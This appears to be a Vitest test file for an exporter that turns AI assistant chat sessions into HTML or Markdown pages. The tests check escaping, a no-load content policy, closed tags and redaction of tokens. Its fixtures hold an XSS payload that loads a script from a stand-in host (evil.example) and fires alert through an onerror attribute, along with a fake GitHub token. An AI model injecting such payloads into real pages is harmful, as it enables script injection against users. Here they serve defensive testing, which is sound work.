import { expect, test } from 'vitest';
import type { Message } from '../../contract/message.js';
import { exportSession } from './export-session.js';
import { restoreSession } from './restore-session.js';
import type { RestoredSession } from './restored-session.js';

const attack = '</pre><script src="https://evil.example/x.js"></script><img src=x onerror=alert(1)>';
const secret = `ghp_${'a1B2c3'.repeat(6)}`;

const messages: Message[] = [
  { role: 'user', content: [{ type: 'text', text: `Use ${secret} & go ${attack}` }] },
  {
    role: 'assistant',
    content: [
      { type: 'thinking', thinking: 'hm\u202e', signature: 's' },
      { type: 'text', text: 'I run it.' },
      { type: 'tool_use', id: 'a', name: 'Bash', input: { command: `echo "${attack}" ${secret}` } },
      { type: 'opaque', provider: 'other', value: {} },
    ],
  },
  {
    role: 'user',
    content: [
      {
        type: 'tool_result',
        tool_use_id: 'a',
        is_error: true,
        content: [
          { type: 'text', text: '```\nfenced\r\n````\n' },
          { type: 'image', source: { type: 'base64', media_type: 'image/png', data: 'iVBORw0KGgo=' } },
          { type: 'image', source: { type: 'base64', media_type: 'image/svg+xml', data: '"onload=' } },
        ],
      },
    ],
  },
  { role: 'assistant', content: [{ type: 'text', text: 'Done.' }] },
];

function sessionOf(said: readonly Message[]): RestoredSession {
  const header = {
    type: 'session',
    v: 1,
    id: 'abc',
    root: '/p',
    created: '2026-01-01T00:00:00Z',
    model: 'm',
    title: '<b>',
  } as const;
  const lines = said.map(({ role, content }) => ({ type: role, at: 0, content }) as const);
  return restoreSession(
    // The content fits its role, which the types above can't express.
    [header, ...lines].map((line, index) => ({ number: index + 1, end: 0, line: line as typeof header })),
  );
}

const pageOf = (format: 'md' | 'html', said = messages): string =>
  [...exportSession(sessionOf(said), { id: 'abc', format, secrets: ['known secret'] })].join('');

test('a page has no scripts and loads nothing, for any conversation', () => {
  const page = pageOf('html');
  expect(page).toContain("default-src 'none'");
  expect(page).not.toMatch(/<script|<img src=x|<link|<iframe|\son\w+=(?!alert)|src="https?:/i);
  expect(page.match(/<img [^>]*>/g)).toEqual([
    '<img alt="An image of the conversation" src="data:image/png;base64,iVBORw0KGgo=">',
  ]);
  expect(page).toContain('&lt;script src=&quot;https://evil.example/x.js&quot;&gt;');
  expect(page).toContain('<title>&lt;b&gt;</title>');
});

test('every element of a page is closed', () => {
  const page = pageOf('html').replace(/<!doctype html>|<(?:meta|img)[^>]*>/g, '');
  const open: string[] = [];
  for (const [, slash, name = ''] of page.matchAll(/<(\/?)([a-z0-9]+)[^>]*>/g)) {
    if (slash) expect(open.pop()).toBe(name);
    else open.push(name);
  }
  expect(open).toEqual([]);
});

test.each(['md', 'html'] as const)('no secret is in an exported %s, not even a part of one in a title', (format) => {
  const long = `${'word '.repeat(14)}${secret} and a known secret`;
  const page = pageOf(format, [{ role: 'user', content: [{ type: 'text', text: long }] }, ...messages]);
  expect(page).not.toContain('ghp_');
  expect(page).not.toContain('known secret');
  expect(page).toContain('redacted: GitHub token');
});

test('shows calls collapsed, with input and result, and escapes control characters', () => {
  const page = pageOf('html');
  expect(page).toContain('<details class="call failed"><summary><b>Bash</b> <code>echo &quot;');
  expect(page).toContain('<h3>Failure</h3>');
  expect(page).toContain('hm\\u202e');
  expect(page).toContain('[an image that can&#39;t be shown]'.replace('&#39;', "'"));
});

test('in Markdown, a fence is longer than any inside it, and marks in a title are escaped', () => {
  const page = pageOf('md');
  expect(page).toContain('# \\<b\\>\n');
  expect(page).toContain('`````\n```\nfenced\n````\n\n`````');
  expect(page).toMatch(/## You\n\nUse \[redacted: GitHub token\] & go .*\n\n## Helve\n/);
});

test('names the session, its folder and its model', () => {
  const page = pageOf('md', [messages[0] as Message]);
  expect(page).not.toContain('<details>');
  expect(page).toContain('- Session: abc\n- Folder: /p\n- Model: m');
});
